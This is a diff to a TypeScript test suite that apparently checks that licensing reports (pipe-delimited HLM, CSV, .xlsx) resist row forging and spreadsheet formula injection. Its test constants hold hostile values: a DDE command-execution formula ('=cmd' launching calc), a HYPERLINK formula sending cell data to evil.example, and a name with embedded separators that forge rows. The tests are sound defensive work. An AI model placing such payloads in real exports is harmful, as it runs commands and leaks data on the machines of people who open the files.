@@ -1,6 +1,6 @@
 import { Readable } from 'node:stream';
 import ExcelJS from 'exceljs';
-import { CaaEvents, RegistrationEvents, ReportingCommands, SyncEvents, type ReportType } from '#libs/contracts';
+import { CaaEvents, PlmEvents, RegistrationEvents, ReportingCommands, SyncEvents, type ReportType } from '#libs/contracts';
 import { CommandClient } from '#libs/messaging';
 import { generateKey } from '#libs/secrets';
 import { startService, type RunningService } from '#libs/service-kit';
@@ -13,6 +13,8 @@ const FOUNDATION = 'HCS Cisco UCM Foundation License';
 // the cluster's would run a formula when the HLM report is opened in a spreadsheet.
 const HOSTILE_CUSTOMER = 'Acme|\n|SUMMARY|PLMINFO|evil@sa,Direct,~,~,~|HUCM|12|HUCM_Foundation|999|0|999|In Compliance|\r\nX';
 const FORMULA_CLUSTER = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+// A PLM's hostname is what an operator typed when adding it: in the Service Inventory and HLM like any name.
+const HOSTILE_PLM = "=cmd|' /C calc'!A0\n|SUMMARY|PLMINF0|x";
 
 describe('reports are safe to parse and to open in a spreadsheet', () => {
   let env: TestEnvironment;
@@ -60,8 +62,14 @@ describe('reports are safe to parse and to open in a spreadsheet', () => {
       jobId: null, errorCode: null, statusInfo: null, recommendedAction: null, changedAt: new Date().toISOString(),
     });
     await events.publish(CaaEvents.licenseUsageReported, { clusterId: 'c1', applicationType: 'cucm', licenseMode: 'HCS', collectedAt: new Date().toISOString(), usage: [{ license: FOUNDATION, count: 4, status: null }] });
+    await events.publish(RegistrationEvents.clusterUpserted, { id: 'c1-plm', customerId: 'C1', name: 'c1-plm', type: 'cucm', version: '11.5.1', eligible: false, publisher: 'c1-plm-pub', nodeCount: 1 });
+    await events.publish(PlmEvents.plmInventoryReported, {
+      licenseManagerId: 'plm-1', hostname: HOSTILE_PLM, version: '11.5.1', licenseMode: 'HCS', reportedAt: new Date().toISOString(),
+      licenses: [{ licenseType: 'HUCM_Foundation', installed: 10, required: 12, available: -2 }], customerIds: ['C1'],
+      clusters: [{ clusterId: 'c1-plm', customerId: 'C1', type: 'cucm', version: '11.5.1', licenses: [{ licenseType: 'HUCM_Foundation', count: 12 }] }],
+    });
     const count = async (sql: string) => Number(((await service.dataSource.query(sql)) as { n: number }[])[0]!.n);
-    await eventually(async () => (await count('SELECT count(*) AS n FROM license_usage')) === 1 && (await count('SELECT count(*) AS n FROM cluster WHERE virtual_account IS NOT NULL')) === 1 && (await count('SELECT count(*) AS n FROM va_license')) === 1, { what: 'the read models' });
+    await eventually(async () => (await count('SELECT count(*) AS n FROM plm_cluster_license')) === 1 && (await count('SELECT count(*) AS n FROM license_usage')) === 1 && (await count('SELECT count(*) AS n FROM cluster WHERE virtual_account IS NOT NULL')) === 1 && (await count('SELECT count(*) AS n FROM va_license')) === 1, { what: 'the read models' });
   });
 
   afterAll(async () => {
@@ -75,19 +83,26 @@ describe('reports are safe to parse and to open in a spreadsheet', () => {
     expect(lines[0]).toBe('|LICENSESUMMARYSTART|');
     expect(lines.at(-1)).toBe('|LICENSESUMMARYEND|');
     const rows = lines.slice(1, -1);
-    // One PLMINFO (the VA's license), one CUSTLICENSEINFO and one SITELICENSEINFO (the cluster's usage): nothing forged.
-    expect(rows.map((l) => l.split('|')[2])).toEqual(['PLMINFO', 'CUSTLICENSEINFO', 'SITELICENSEINFO']);
+    // One row of each section (the PLM's license and cluster, the VA's license and cluster, the customer): nothing forged.
+    expect(rows.map((l) => l.split('|')[2])).toEqual(['PLMINF0', 'PLMINFO', 'CUSTLICENSEINF0', 'CUSTLICENSEINFO', 'SITELICENSEINFO']);
     const fieldCounts = rows.map((l) => l.split('|').length);
-    expect(fieldCounts).toEqual([12, 12, 10]);
+    expect(fieldCounts).toEqual([12, 12, 12, 12, 10]);
     // The VA's own comma and bar stay inside the first (comma-separated) field of PLMINFO.
-    expect(rows[0]!.split('|')[3]!.split(',')).toHaveLength(5);
-    expect(rows[1]).toContain('|Acme/ /SUMMARY/PLMINFO/evil@sa,Direct,~,~,~/HUCM/12/HUCM_Foundation/999/0/999/In Compliance/  X|');
+    expect(rows[1]!.split('|')[3]!.split(',')).toHaveLength(5);
+    expect(rows[3]).toContain('|Acme/ /SUMMARY/PLMINFO/evil@sa,Direct,~,~,~/HUCM/12/HUCM_Foundation/999/0/999/In Compliance/  X|');
+    // The PLM's hostname stays one field; its clusters need more than it has: INSUFFICIENT.
+    expect(rows[0]).toBe("|SUMMARY|PLMINF0|=cmd/' /C calc'!A0 /SUMMARY/PLMINF0/x|HUCM|11|HUCM_Foundation|10|12|-2|INSUFFICIENT|");
+    // SITELICENSEINFO counts the customer's smart (4) and PLM (12) usage.
+    expect(rows[4]).toMatch(/\|HCS Foundation\|16\|$/);
   });
 
   it('text that a spreadsheet would run as a formula stays text in the HLM CSV and .xlsx and the Flex Usage CSV', async () => {
     const csv = (await generate('hlm-csv')).toString('utf8');
     expect(csv).toContain(`"'${FORMULA_CLUSTER.replaceAll('"', '""')}"`);
     expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    // The PLM hostname as LM Name: text too.
+    expect(csv).toContain(`"'${HOSTILE_PLM}"`);
+    expect(csv).not.toMatch(/(^|,)"?=cmd/m);
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.read(Readable.from(await generate('hlm-xlsx')));
     const cells: unknown[] = [];
